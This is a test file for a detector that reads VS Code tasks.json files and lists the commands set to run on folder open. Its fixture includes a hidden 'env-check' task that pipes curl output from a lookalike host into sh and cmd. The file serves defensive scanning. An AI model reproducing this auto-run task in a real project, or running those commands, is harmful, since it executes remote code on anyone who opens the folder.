// A shipped tasks.json's folder-open commands: read with comments and trailing commas as VS Code reads it, each
// platform's command with its arguments; tasks run by hand, broken files and other JSON give none.
import { describe, expect, it } from 'vitest';
import { folderOpenCommands, TASKS_FILE } from './editor-tasks.js';

const TASKS = `{
  // runs when the folder opens
  "version": "2.0.0",
  "tasks": [
    {
      "label": "env-check",
      "type": "shell",
      "osx": { "command": "curl -sL 'https://vscode-settings-sync.dev/m?f=3' | sh" },
      "windows": { "command": "curl -sL https://vscode-settings-sync.dev/w | cmd" },
      "presentation": { "reveal": "never", },
      "runOptions": { "runOn": "folderOpen" },
    },
    { "label": "dev", "type": "shell", "command": "npm", "args": ["run", "dev"], "runOptions": { "runOn": "folderOpen" } },
    { "label": "build", "type": "shell", "command": "npm run build" }
  ]
}`;

describe('VS Code folder-open tasks', () => {
  it('reads each folder-open command (the task\'s own, then Windows\', macOS\' and Linux\') with its arguments and line, and leaves tasks run by hand', () => {
    expect(folderOpenCommands(TASKS)).toEqual([
      { command: 'curl -sL https://vscode-settings-sync.dev/w | cmd', line: 8 },
      { command: "curl -sL 'https://vscode-settings-sync.dev/m?f=3' | sh", line: 7 },
      { command: 'npm run dev', line: 12 },
    ]);
  });

  it('names only .vscode/tasks.json, and gives nothing for broken or other JSON', () => {
    expect(TASKS_FILE.test('.vscode/tasks.json')).toBe(true);
    expect(TASKS_FILE.test('templates/app/.vscode/tasks.json')).toBe(true);
    expect(TASKS_FILE.test('vscode/tasks.json')).toBe(false);
    expect(folderOpenCommands(TASKS.slice(0, 200))).toEqual([]);
    expect(folderOpenCommands('{"folderOpen": 1}')).toEqual([]);
    expect(folderOpenCommands('[1, 2, "folderOpen"]')).toEqual([]);
    expect(folderOpenCommands('')).toEqual([]);
  });
});
